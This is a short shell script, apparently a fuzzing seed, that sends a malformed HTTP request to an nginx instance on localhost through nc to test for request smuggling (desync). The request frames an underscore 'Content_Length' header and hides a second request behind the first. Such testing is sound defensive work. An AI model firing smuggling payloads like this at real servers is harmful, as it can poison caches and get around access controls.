#!/bin/sh
# desync/field-name-underscore-framing/smuggled-request via seed against nginx
printf 'T / HTTP/1.1\r\nHost:}\r\nContent_Length:\r\n\r\nG / HTTP/1.1\nHost:o\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
